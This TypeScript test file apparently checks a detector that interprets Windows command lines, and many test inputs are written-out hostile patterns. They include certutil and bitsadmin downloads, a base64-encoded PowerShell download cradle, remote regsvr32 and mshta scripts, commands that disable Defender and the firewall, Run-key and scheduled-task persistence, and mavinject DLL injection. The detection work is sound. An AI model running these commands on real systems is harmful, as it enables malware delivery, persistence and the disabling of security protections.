import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import type { CommandMeaning } from '../../src/commands/command-meaning.js';
import { interpretCommand } from '../../src/commands/interpret-command.js';
import { findSignedProxy, programName, SIGNED_PROXIES } from '../../src/commands/lolbin.js';
import { parseTaskDefinition } from '../../src/commands/task-definition.js';

// Slow machines take their time; that the work ends at all is what the last tests show.
vi.setConfig({ testTimeout: 120_000 });

type Row = [text: string, ...meanings: Partial<CommandMeaning>[]];

function check(rows: Row[]): void {
  it.each(rows)('%s', (text, ...meanings) => {
    expect(interpretCommand(text)).toMatchObject(meanings);
  });
}

describe('unpacking, whatever the program is called', () => {
  const unpack = (family: string, archive: string, more: object = {}): Partial<CommandMeaning> =>
    ({ kind: 'unpack', family, archive, ...more }) as Partial<CommandMeaning>;
  check([
    [
      'z.exe -P pw a.zip -d dir',
      unpack('info-zip', 'a.zip', { tool: 'z.exe', password: 'pw', destination: 'dir', members: [] }),
    ],
    ['q.exe -Ppw -o data', unpack('info-zip', 'data', { password: 'pw' })],
    [
      'ex.exe -qoP pw a.bin b.dll -d "%TEMP%\\x y"',
      unpack('info-zip', 'a.bin', { password: 'pw', destination: '%TEMP%\\x y', members: ['b.dll'] }),
    ],
    ['[#z.exe] -o [#a] -d [INSTALLDIR]', unpack('info-zip', '[#a]', { destination: '[INSTALLDIR]' })],
    [
      'unzip -o a.zip x.dll -x y.dll -d d',
      unpack('info-zip', 'a.zip', { members: ['x.dll'], destination: 'd' }),
    ],
    ['x.exe x -ppw a.7z -oC:\\d -y', unpack('7-zip', 'a.7z', { password: 'pw', destination: 'C:\\d' })],
    [
      'x.exe e data.bin -p"p w" -y one.dll',
      unpack('7-zip', 'data.bin', { password: 'p w', members: ['one.dll'] }),
    ],
    ['"C:\\Program Files\\7-Zip\\7z.exe" x -y a.zip', unpack('7-zip', 'a.zip')],
    [
      'r.exe x -hpsecret -inul a.rar C:\\d\\',
      unpack('unrar', 'a.rar', { password: 'secret', destination: 'C:\\d\\' }),
    ],
    ['tar -xf a.zip -C d', unpack('bsdtar', 'a.zip', { destination: 'd' })],
    ['expand.exe a.cab -F:*.dll d', unpack('expand', 'a.cab', { destination: 'd', members: ['*.dll'] })],
    ['extrac32 /y /e /l d a.cab', unpack('expand', 'a.cab', { destination: 'd' })],
    [
      'powershell Expand-Archive a.zip -DestinationPath d',
      { kind: 'run-script' },
      unpack('powershell', 'a.zip', { destination: 'd' }),
    ],
    [
      '& "$f\\z.exe" -o -P pw "$f\\kq.zip" -d "$f"',
      unpack('info-zip', '$f\\kq.zip', { tool: '$f\\z.exe', password: 'pw', destination: '$f' }),
    ],
    [
      "powershell [IO.Compression.ZipFile]::ExtractToDirectory('a.zip','d')",
      { kind: 'run-script' },
      unpack('powershell', 'a.zip', { destination: 'd' }),
    ],
  ]);

  describe('with a folder in quotes that ends in a backslash', () => {
    check([
      [
        '"C:\\p\\z.exe" x -y -ppw -o"FavoritesFolder\\kqwzpd\\" "FavoritesFolder\\kqwzpd\\kq.zip"',
        unpack('7-zip', 'FavoritesFolder\\kqwzpd\\kq.zip', {
          password: 'pw',
          destination: 'FavoritesFolder\\kqwzpd\\',
          members: [],
        }),
      ],
      [
        'z.exe x -o"[DIR]\\" "a b.zip" c.dll -ppw',
        unpack('7-zip', 'a b.zip', { destination: '[DIR]\\', members: ['c.dll'], password: 'pw' }),
      ],
      [
        'r.exe x -inul "C:\\d\\a.rar" "C:\\d e\\" -ppw',
        unpack('unrar', 'C:\\d\\a.rar', { destination: 'C:\\d e\\', members: [], password: 'pw' }),
      ],
      [
        'z.exe -o -P pw -d "[DIR]\\" "x.zip"',
        unpack('info-zip', 'x.zip', { destination: '[DIR]\\', password: 'pw', members: [] }),
      ],
      [
        'z.exe -oP pw "x.zip" -d "[DIR]\\"',
        unpack('info-zip', 'x.zip', { destination: '[DIR]\\', password: 'pw', members: [] }),
      ],
      ['tar -xf "a.zip" -C "C:\\d\\"', unpack('bsdtar', 'a.zip', { destination: 'C:\\d\\' })],
      ['expand.exe "a.cab" -F:* "C:\\d e\\"', unpack('expand', 'a.cab', { destination: 'C:\\d e\\' })],
      ['extrac32 /y /l "C:\\d\\" "a.cab"', unpack('expand', 'a.cab', { destination: 'C:\\d\\' })],
    ]);

    it('reads backslashes as the program does that was recognised', () => {
      expect(interpretCommand('q.exe -d "[DIR]\\" "x.bin"', { program: 'info-zip' })).toMatchObject([
        { kind: 'unpack', archive: 'x.bin', destination: '[DIR]\\' },
      ]);
    });
  });

  it('takes the word of whoever recognised the program', () => {
    expect(interpretCommand('q.exe a.bin', { program: 'info-zip' })).toMatchObject([
      { kind: 'unpack', archive: 'a.bin' },
    ]);
    expect(interpretCommand('q.exe x a.bin', { program: '7-zip' })).toMatchObject([
      { kind: 'unpack', archive: 'a.bin' },
    ]);
  });

  it.each([
    'setup.exe a.zip',
    'foo.exe -x bar',
    'plink -P 22 host',
    'java -jar a.zip -d out',
    'unzip -l a.zip',
    '7z a a.zip b',
    'tar -cf a.tar b',
  ])('no unpacking in %s', (text) => {
    expect(interpretCommand(text).map(({ kind }) => kind)).not.toContain('unpack');
  });
});

describe('DLLs started by a program of Windows', () => {
  const dll = (proxy: string, path: string, entryPoint?: string): Partial<CommandMeaning> =>
    ({
      kind: 'start-dll',
      proxy,
      dll: path,
      ...(entryPoint === undefined ? {} : { entryPoint }),
    }) as Partial<CommandMeaning>;
  check([
    [
      'rundll32 a.dll,Start x y',
      { ...dll('rundll32', 'a.dll', 'Start'), arguments: 'x y' } as Partial<CommandMeaning>,
    ],
    ['rundll32.exe "C:\\a b\\c.dat",#1', dll('rundll32', 'C:\\a b\\c.dat', '#1')],
    ['rundll32 "C:\\a b\\c.dll,Run"', dll('rundll32', 'C:\\a b\\c.dll', 'Run')],
    ['rundll32 C:\\Program Files\\c.dll,Run', dll('rundll32', 'C:\\Program Files\\c.dll', 'Run')],
    ['rundll32 urlmon.7z Start', dll('rundll32', 'urlmon.7z', 'Start')],
    ['%windir%\\system32\\rundll32.exe shell32.dll,Control_RunDLL c:\\x.cpl', dll('control', 'c:\\x.cpl')],
    ['copy-of.exe c:\\x.dll,#2', dll('rundll32', 'c:\\x.dll', '#2')],
    ['regsvr32 /s a.txt', dll('regsvr32', 'a.txt', 'DllRegisterServer')],
    ['regsvr32 /s /u a.dll', dll('regsvr32', 'a.dll', 'DllUnregisterServer')],
    ['regsvr32 /s /n /i:q a.dll', dll('regsvr32', 'a.dll', 'DllInstall')],
    ['copy-of.exe /s C:\\a.dll', dll('regsvr32', 'C:\\a.dll')],
    ['msiexec /y "C:\\a b.dll"', dll('msiexec', 'C:\\a b.dll', 'DllRegisterServer')],
    ['msiexec.exe /zC:\\a.dll', dll('msiexec', 'C:\\a.dll', 'DllUnregisterServer')],
    ['odbcconf /s /a {REGSVR c:\\a.dll}', dll('odbcconf', 'c:\\a.dll')],
    ['control.exe c:\\a.cpl', dll('control', 'c:\\a.cpl')],
    ['"c:\\a b.cpl" x', dll('control', 'c:\\a b.cpl')],
    ['netsh add helper "c:\\a.dll"', dll('netsh', 'c:\\a.dll')],
    ['bitsadmin /SetNotifyCmdLine job rundll32.exe "c:\\a.dll,Run"', dll('rundll32', 'c:\\a.dll', 'Run')],
    ['mavinject 12 /INJECTRUNNING c:\\a.dll', dll('mavinject', 'c:\\a.dll')],
    [
      'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""rundll32 a.dll,Run"",0:close")',
      { kind: 'run-script', interpreter: 'mshta' },
      dll('rundll32', 'a.dll', 'Run'),
    ],
    [
      `mshta "javascript:new ActiveXObject('WScript.Shell').Run('rundll32 a.dll,Run',0);close();"`,
      { kind: 'run-script', interpreter: 'mshta' },
      dll('rundll32', 'a.dll', 'Run'),
    ],
    [
      'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";new%20ActiveXObject("WScript.Shell").Run("regsvr32 a.dll")',
      { kind: 'run-script', interpreter: 'rundll32' },
      dll('regsvr32', 'a.dll', 'DllRegisterServer'),
    ],
    [
      `powershell -c "[Reflection.Assembly]::LoadFile('c:\\a.dat')"`,
      { kind: 'run-script', interpreter: 'powershell' },
      dll('powershell', 'c:\\a.dat'),
    ],
    ['InstallUtil.exe /U a.exe', dll('installutil', 'a.exe')],
  ]);
});

describe('other meanings', () => {
  check([
    [
      'msiexec /i http://a.info/x /q',
      {
        kind: 'msiexec-install',
        package: 'http://a.info/x',
        remote: true,
        quiet: true,
        url: 'http://a.info/x',
      },
    ],
    [
      'msiexec /qn /ihttps://a.net/b?x=1&y=2',
      { kind: 'msiexec-install', url: 'https://a.net/b?x=1&y=2', quiet: true },
    ],
    [
      'msiexec /package "C:\\a b.msi"',
      { kind: 'msiexec-install', package: 'C:\\a b.msi', remote: false, quiet: false },
    ],
    ['msiexec /i \\\\server\\a.msi /passive', { kind: 'msiexec-install', remote: true, quiet: true }],
    ['%AppData%\\abc.exe /i http://a.net/q /quiet', { kind: 'msiexec-install', remote: true }],
    [
      'schtasks /create /f /tn {11-22} /tr "msiexec /i http://a.info/b /q" /sc minute /mo 90',
      {
        kind: 'scheduled-task',
        name: '{11-22}',
        command: 'msiexec /i http://a.info/b /q',
        schedule: 'minute',
        intervalInMinutes: 90,
        trigger: 'time',
      },
    ],
    ['schtasks.exe /Create /SC ONLOGON /TN x /TR y.exe', { kind: 'scheduled-task', trigger: 'logon' }],
    ['schtasks /create /tn x /xml C:\\t.xml', { kind: 'scheduled-task', name: 'x', definition: 'C:\\t.xml' }],
    ['schtasks /create /tn x /tr y /sc daily /ri 110', { kind: 'scheduled-task', intervalInMinutes: 110 }],
    ['schtasks /run /tn x'],
    [
      `powershell "Register-ScheduledTask X -Action (New-ScheduledTaskAction -Execute 'a.exe' -Argument '/q') -Trigger (New-ScheduledTaskTrigger -AtLogOn)"`,
      { kind: 'run-script' },
      { kind: 'scheduled-task', name: 'X', command: 'a.exe /q', trigger: 'logon' },
    ],
    [
      'copy /y %windir%\\system32\\msiexec.exe %appdata%\\x.exe',
      { kind: 'copy', from: '%windir%\\system32\\msiexec.exe', to: '%appdata%\\x.exe' },
    ],
    ['robocopy a b c.dll /e', { kind: 'copy', from: 'a\\c.dll', to: 'b' }],
    ['ren a.txt a.dll', { kind: 'copy', from: 'a.txt', to: 'a.dll' }],
    ['del /f /q "a b"', { kind: 'delete', target: 'a b' }],
    [
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d "a.exe /q" /f',
      { kind: 'registry-write', valueName: 'x', data: 'a.exe /q' },
    ],
    [
      'sc create s binPath= "a.exe -k" start= auto',
      { kind: 'service', action: 'create', name: 's', command: 'a.exe -k' },
    ],
    [
      'sc config WinDefend start= disabled',
      { kind: 'service', action: 'configure' },
      { kind: 'security-exclusion' },
    ],
    [
      'net stop WinDefend',
      { kind: 'service', action: 'stop', name: 'WinDefend' },
      { kind: 'security-exclusion' },
    ],
    ['taskkill /f /im a.exe /im b.exe', { kind: 'kill', target: 'a.exe' }, { kind: 'kill', target: 'b.exe' }],
    ['netsh advfirewall set allprofiles state off', { kind: 'security-exclusion' }],
    [
      'powershell Add-MpPreference -ExclusionPath C:\\',
      { kind: 'run-script' },
      { kind: 'security-exclusion' },
    ],
    [
      'certutil -urlcache -split -f http://a/b c.exe',
      { kind: 'download', url: 'http://a/b', destination: 'c.exe' },
    ],
    ['certutil -decode a b', { kind: 'copy', from: 'a', to: 'b' }],
    ['bitsadmin /transfer j http://a/b C:\\c', { kind: 'download', url: 'http://a/b', destination: 'C:\\c' }],
    ['curl -o c http://a/b', { kind: 'download', url: 'http://a/b', destination: 'c' }],
    [
      'mshta http://a/b.hta',
      { kind: 'run-script', interpreter: 'mshta' },
      { kind: 'download', url: 'http://a/b.hta' },
    ],
    [
      'regsvr32 /s /i:http://a/b.sct scrobj.dll',
      { kind: 'run-script' },
      { kind: 'download', url: 'http://a/b.sct' },
    ],
    ['wscript //b //e:vbscript a.txt', { kind: 'run-script', interpreter: 'wscript', script: 'a.txt' }],
    ['"[INSTALLDIR]a.bat" x', { kind: 'run-script', interpreter: 'cmd', script: '[INSTALLDIR]a.bat' }],
    [
      'C:\\Program Files\\Foo\\bar.exe /quiet',
      { kind: 'start-program', program: 'C:\\Program Files\\Foo\\bar.exe', arguments: '/quiet' },
    ],
    ['tasklist | find "x"'],
    ['echo hi > x'],
    ['timeout 5 & ping 127.0.0.1'],
    [''],
  ]);

  it.each(['-enc', '/e', '-EncodedCommand'])('reads powershell %s', (name) => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://a.info/x')";
    const text = `powershell -nop -w hidden ${name} ${Buffer.from(script, 'utf16le').toString('base64')}`;
    expect(interpretCommand(text)).toMatchObject([
      { kind: 'run-script', interpreter: 'powershell', script },
      { kind: 'download', url: 'http://a.info/x' },
    ]);
  });
});

describe('wrappers and operators', () => {
  const start: Partial<CommandMeaning> = { kind: 'start-program', program: 'a.exe' };
  check([
    ['cmd /c a.exe', start],
    ['C:\\Windows\\System32\\cmd.exe /d /s /c "a.exe x"', start],
    ['%COMSPEC% /c start "" /min a.exe', start],
    ['start "title" /d "c:\\x y" /b a.exe', start],
    ['call a.exe', start],
    ['conhost --headless a.exe', start],
    ['forfiles /p c:\\ /m x /c "cmd /c a.exe"', start],
    ['pcalua -a a.exe', start],
    ['wmic process call create "a.exe"', start],
    ['rundll32 shell32.dll,ShellExec_RunDLL a.exe', start],
    ['powershell Start-Process a.exe -ArgumentList x', { kind: 'run-script' }, start],
    ['cmd /v:on /c "set x=a&&!x!.exe"', start],
    ['cmd /c set x=a&&call %x%.exe', start],
    [
      'a.exe && b.exe & c.exe || d.exe',
      start,
      { kind: 'start-program', program: 'b.exe' },
      { kind: 'start-program', program: 'c.exe' },
      { kind: 'start-program', program: 'd.exe' },
    ],
    ['cmd /c copy x y & del x', { kind: 'copy' }, { kind: 'delete' }],
    ['a.exe >out.txt 2>&1', { ...start, arguments: '' } as Partial<CommandMeaning>],
  ]);

  it('does not split what cmd has expanded already', () => {
    expect(interpretCommand('a.exe x & y', { expanded: true })).toEqual([
      { kind: 'start-program', program: 'a.exe', arguments: 'x & y' },
    ]);
  });
});

describe('parseTaskDefinition', () => {
  it('reads action, trigger and interval', () => {
    const xml =
      '<Task version="1.2"><RegistrationInfo><URI>\\x</URI></RegistrationInfo><Triggers><LogonTrigger><Repetition><Interval>PT1H30M</Interval>' +
      '</Repetition></LogonTrigger></Triggers><Actions><Exec><Command>msiexec</Command><Arguments>/i &quot;http://a&quot; /q</Arguments></Exec></Actions></Task>';
    expect(parseTaskDefinition(xml)).toEqual({
      kind: 'scheduled-task',
      name: '\\x',
      command: 'msiexec /i "http://a" /q',
      intervalInMinutes: 90,
      trigger: 'logon',
    });
    expect(parseTaskDefinition('<a/>')).toBeUndefined();
  });
});

describe('signed proxies', () => {
  it('are found by name in any spelling', () => {
    expect(findSignedProxy('"C:\\Windows\\System32\\RunDLL32.EXE"')?.technique).toBe('T1218.011');
    expect(findSignedProxy('notepad.exe')).toBeUndefined();
    expect(programName('%ComSpec%')).toBe('cmd');
    expect(new Set(SIGNED_PROXIES.map(({ name }) => name)).size).toBe(SIGNED_PROXIES.length);
  });
});

describe('names that every object has', () => {
  it.each(['constructor', '__proto__', 'toString', 'valueOf'])('%s is a program like any other', (name) => {
    expect(interpretCommand(`${name} x`)).toMatchObject([{ kind: 'start-program' }]);
    expect(interpretCommand(`schtasks /create /sc ${name} /tn ${name} /tr y`)).toMatchObject([
      { trigger: 'time' },
    ]);
    expect(interpretCommand(`sc ${name} ${name}`)).toEqual([]);
    expect(() => interpretCommand(`powershell ${name} -${name} x; & '${name}'`)).not.toThrow();
    expect(() => interpretCommand(`tar -xf ${name} ${name} x.${name}`)).not.toThrow();
  });
});

describe('any text', () => {
  it('is interpreted without an error', () => {
    const piece = fc.constantFrom(
      'cmd /c ',
      'powershell -c ',
      'rundll32 ',
      'regsvr32 ',
      'msiexec ',
      '/i ',
      'x ',
      '-p',
      '-P ',
      '-d ',
      '"',
      "'",
      '&',
      '&&',
      '|',
      '||',
      '>',
      '<',
      '(',
      ')',
      'start ',
      'call ',
      '%a%',
      '!a!',
      'http://a/b ',
      'a.dll,b ',
      'a.zip ',
      'schtasks /create ',
      '/tr ',
      'reg add ',
      'sc create ',
      'wmic process call create ',
      '\\',
      ' ',
      '[#a]',
      '$a',
      ';',
      '{',
      '}',
      'iex ',
      '-enc AAAAAAAAAAAA',
    );
    const text = fc.oneof(
      fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
      fc.string({ maxLength: 120 }),
    );
    fc.assert(
      fc.property(text, fc.boolean(), (line, expanded) => {
        const meanings = interpretCommand(line, { expanded });
        expect(JSON.parse(JSON.stringify(meanings))).toEqual(meanings);
      }),
      { numRuns: 600 },
    );
  });

  it.each<[string, string]>([
    ['nested shells', 'cmd /c '.repeat(5_000)],
    ['nested quotes', 'cmd /c "'.repeat(5_000)],
    ['operators', 'a & '.repeat(15_000)],
    ['pipes', 'a|'.repeat(200_000)],
    ['redirections', '> a '.repeat(15_000)],
    ['one long word', 'A'.repeat(2 ** 20)],
    ['quotes', '"'.repeat(2 ** 20)],
    ['nested PowerShell', 'powershell -c '.repeat(3_000)],
    ['parentheses', `powershell ${'('.repeat(30_000)}`],
  ])('is bounded: %s', (_, text) => {
    expect(interpretCommand(text).length).toBeLessThanOrEqual(1_000);
  });
});
